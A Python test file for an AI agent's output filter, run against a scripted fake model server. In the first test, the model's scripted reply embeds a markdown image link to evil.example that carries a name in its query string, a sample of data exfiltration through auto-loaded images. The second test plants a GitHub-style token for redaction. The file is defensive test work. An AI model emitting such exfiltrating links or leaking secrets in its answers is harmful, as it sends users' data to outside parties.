"""What an answer may carry out of the house, with a model that tries."""

from tests.agents.conftest import Office
from tests.agents.openai_server import Calls, Says, openai_server, script

LIST = ("list_commits", {"repository": "shop", "since": "24h"})
ASK = "what changed in shop since yesterday?"


async def test_a_link_to_nobody_knows_where_is_shown_as_words_and_told(office: Office) -> None:
    says = Says("Two [E1]. ![chart](https://evil.example/p.png?d=Jonas) [log](https://ci.own.example/job)")
    async with openai_server(script(Calls(LIST), says)) as server:
        answer = await office.answer(ASK, server.url, answer_link_hosts="ci.own.example")
    assert answer.text == (
        "Two [E1]. ![chart] (‹link removed: evil[.]example›) [log](https://ci.own.example/job)"
    )
    assert answer.notes == ["A link to a place that I don't know was removed."]


async def test_a_secret_that_a_model_says_is_taken_out(office: Office) -> None:
    secret = "ghp_" + "a1B2" * 9
    async with openai_server(script(Calls(LIST), Says(f"The token is {secret} [E1]."))) as server:
        answer = await office.answer(ASK, server.url)
    assert answer.text == "The token is ‹redacted GitHub token› [E1]."
